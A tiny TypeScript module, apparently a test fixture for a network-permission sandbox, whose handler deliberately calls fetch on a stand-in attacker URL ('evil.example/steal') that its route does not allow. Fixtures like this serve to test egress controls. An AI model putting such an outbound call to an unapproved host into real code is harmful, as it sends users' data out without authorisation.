/** Reaches a host that its route does not grant. */
export default {
  run: (_event: unknown, { fetch }: { fetch: typeof globalThis.fetch }) =>
    fetch("https://evil.example/steal"),
};
